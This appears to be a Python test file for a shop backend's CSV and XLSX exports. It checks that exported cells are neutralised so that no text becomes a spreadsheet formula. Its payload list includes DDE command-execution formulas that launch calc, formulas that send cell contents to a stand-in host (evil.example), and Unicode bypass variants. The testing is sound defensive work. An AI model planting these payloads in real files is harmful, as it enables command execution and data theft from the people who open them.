"""Exports: files that open in a spreadsheet and in which no text becomes a formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from starlette.testclient import TestClient

from kernel import exports
from tests.shop import Shop

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+51 999 888 777",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＠SUM(A1)",
    " =1+1",
    "  \t =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "﹦1+1",
    "−1+1",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    '=IMPORTXML("http://evil.example","//a")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example")',
    "=DDE('cmd';'/C calc';'x')",
]


def read_csv(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def read_xlsx(body: bytes) -> list[list[Any]]:
    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def made(form: str, rows: Sequence[Sequence[Any]]) -> bytes:
    return exports.file("lista", form, ["valor"], rows).body


@pytest.mark.parametrize("text", FORMULAS)
def test_file_csv_of_a_formula_shows_it_as_text(text: str) -> None:
    (cell,) = read_csv(made("csv", [[text]]))[1]
    assert cell.startswith("'")
    assert cell.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("separator", [";", "\t", "|"])
@pytest.mark.parametrize(
    "text", [f"a{sign}=1+1" for sign in (";", "\t", "|", "\r", "\n", ";\u200b")]
)
def test_file_csv_read_with_another_separator_has_no_formula(text: str, separator: str) -> None:
    body = made("csv", [[1, text, "x"], ["b", {"c": text}, -5]]).decode("utf-8-sig")
    for line in csv.reader(io.StringIO(body, newline=""), delimiter=separator):
        for cell in line:
            assert not cell.lstrip(" \u200b").startswith(("=", "@")), line


@pytest.mark.parametrize("number", [Decimal("-12.50"), -3, 1.5, Decimal("1E+3")])
def test_file_of_a_number_keeps_it_a_number(number: Any) -> None:
    (cell,) = read_csv(made("csv", [[number]]))[1]
    assert Decimal(cell) == Decimal(str(number))
    sheet = load_workbook(io.BytesIO(made("xlsx", [[number]]))).worksheets[0]
    assert sheet["A2"].data_type == "n"


@pytest.mark.parametrize("text", FORMULAS)
def test_file_xlsx_of_a_formula_shows_it_as_text(text: str) -> None:
    cell = load_workbook(io.BytesIO(made("xlsx", [[text]]))).worksheets[0]["A2"]
    assert (cell.data_type, cell.value.strip()) == ("s", text.strip())
    assert cell.quotePrefix


@pytest.mark.parametrize(
    ("value", "in_csv", "in_xlsx"),
    [
        ("Ñandú «S.A.C.», \"x\"; 'y'", "Ñandú «S.A.C.», \"x\"; 'y'", "Ñandú «S.A.C.», \"x\"; 'y'"),
        (Decimal("-12.50"), "-12.50", -12.5),
        (-3, "-3", -3),
        (None, "", None),
        (True, "True", True),
        (date(2026, 1, 31), "2026-01-31", "2026-01-31"),
        (
            datetime(2026, 1, 31, 12, 30, tzinfo=UTC),
            "2026-01-31T12:30:00+00:00",
            datetime(2026, 1, 31, 12, 30),  # noqa: DTZ001  # XLSX knows no zones
        ),
        ({"a": ["ñ", 1]}, '{"a":["ñ",1]}', '{"a":["ñ",1]}'),
        ("a\x01b\x0bc\x1fd", "a\x01b\x0bc\x1fd", "abcd"),
    ],
)
def test_file_each_kind_of_value_is_readable(value: Any, in_csv: str, in_xlsx: Any) -> None:
    assert read_csv(made("csv", [[value, "x"]]))[1] == [in_csv, "x"]
    assert read_xlsx(made("xlsx", [[value, "x"]]))[1] == [in_xlsx, "x"]


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_safe_cell_never_starts_a_formula(text: str) -> None:
    safe = exports.safe_cell(text)
    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert safe.removeprefix("'") == text.removeprefix("'") or safe == text


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=20), max_size=5))
def test_file_xlsx_of_any_texts_opens_without_a_formula(texts: list[str]) -> None:
    sheet = load_workbook(io.BytesIO(made("xlsx", [[text] for text in texts]))).worksheets[0]
    assert all(cell.data_type in ("s", "n") for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize(("form", "read"), [("csv", read_csv), ("xlsx", read_xlsx)])
def test_exportar_clientes_is_a_download_of_the_filtered_list(
    admin: TestClient, shop: Shop, form: str, read: Any
) -> None:
    for number, name in enumerate(['=HYPERLINK("http://x")', "Ñusta S.A.C."]):
        body = {"tipo_doc": "7", "numero_doc": f"A{number}", "razon_social": name}
        assert admin.post("/api/clientes/", json=body).status_code == 201
    answer = admin.get(
        "/api/clientes/exportar/", params={"formato": form, "tipo_doc": "7", "sort": "razon_social"}
    )
    assert answer.headers["content-disposition"] == f'attachment; filename="clientes.{form}"'
    assert answer.headers["content-type"] == (exports.CSV if form == "csv" else exports.XLSX)
    rows = read(answer.content)
    names = [row[rows[0].index("razon_social")].lstrip("'") for row in rows[1:]]
    assert names == ['=HYPERLINK("http://x")', "Ñusta S.A.C."]


def test_exportar_of_bad_query_is_refused(admin: TestClient) -> None:
    answer = admin.get("/api/clientes/exportar/?formato=pdf&limit=5&tipo_doc=9")
    assert answer.status_code == 400
    assert {one["field"] for one in answer.json()["errors"]} == {"formato", "limit"}


def test_exportar_every_resource_answers_both_forms(admin: TestClient) -> None:
    paths = [p for p in admin.get("/api/openapi.json").json()["paths"] if p.endswith("/exportar/")]
    assert len(paths) >= 8
    for path in paths:
        for form in ("csv", "xlsx"):
            answer = admin.get(path, params={"formato": form})
            assert answer.status_code == 200, (path, answer.text)
